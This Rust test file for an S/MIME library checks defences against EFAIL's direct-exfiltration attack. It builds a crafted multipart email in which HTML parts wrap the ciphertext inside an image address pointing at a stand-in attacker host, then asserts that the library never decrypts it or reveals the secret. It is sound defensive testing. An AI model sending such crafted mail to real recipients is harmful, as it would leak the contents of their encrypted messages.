//! Attack 1, EFAIL's direct exfiltration: the ciphertext stands between two HTML parts that make
//! an image's address of it. Only an outermost body is decrypted, so it stays ciphertext.

use liaison_smime::Refusal;

use crate::forge::{SECRET, Stage, base64, cms, plain_mail, readable};

fn sandwich(object: &[u8]) -> Vec<u8> {
    let mut body = b"Content-Type: multipart/mixed; boundary=a\r\n\r\n\
        --a\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attaquant.test/?\r\n\
        --a\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\
        Content-Transfer-Encoding: base64\r\n\r\n"
        .to_vec();
    body.extend_from_slice(&base64(object));
    body.extend_from_slice(b"\r\n--a\r\nContent-Type: text/html\r\n\r\n\">\r\n--a--\r\n");
    body
}

#[test]
fn a_part_beside_others_is_never_decrypted() {
    let stage = Stage::new();
    let object = cms::honest_gcm(&[stage.recipient(&cms::KEY_256)], &stage.signed_entity());
    assert!(stage.open(&crate::forge::mail(&object)).is_ok());
    let message = plain_mail("dr.untel@hopital.test", &sandwich(&object));
    assert_eq!(stage.open(&message).err(), Some(Refusal::NotEnveloped));
    // Even where unprotected mail is accepted, what is shown holds the ciphertext.
    let shown = stage.look(&message).unwrap();
    assert!(shown.layers().is_empty());
    let shown = readable(shown);
    assert!(!shown.contains(SECRET) && shown.contains("attaquant.test"));
}

#[test]
fn a_signature_around_the_sandwich_changes_nothing() {
    let stage = Stage::new();
    let object = cms::honest_gcm(&[stage.recipient(&cms::KEY_256)], &stage.signed_entity());
    let content = sandwich(&object);
    let attacker = stage
        .root
        .person("autre@hopital.test", &crate::forge::pki::Keys::p256(), 66);
    let signature = cms::honest_signature(&attacker, &content, false);
    let message = plain_mail(
        "autre@hopital.test",
        &cms::multipart_signed(&content, &signature),
    );
    let shown = readable(stage.look(&message).unwrap());
    assert!(!shown.contains(SECRET));
    // The sandwich inside an envelope of the attacker's own: the same.
    let outer = cms::honest_gcm(
        &[stage.recipient(&cms::KEY_256)],
        &cms::multipart_signed(&content, &signature),
    );
    let shown = readable(stage.open(&crate::forge::mail(&outer)).unwrap());
    assert!(!shown.contains(SECRET));
}
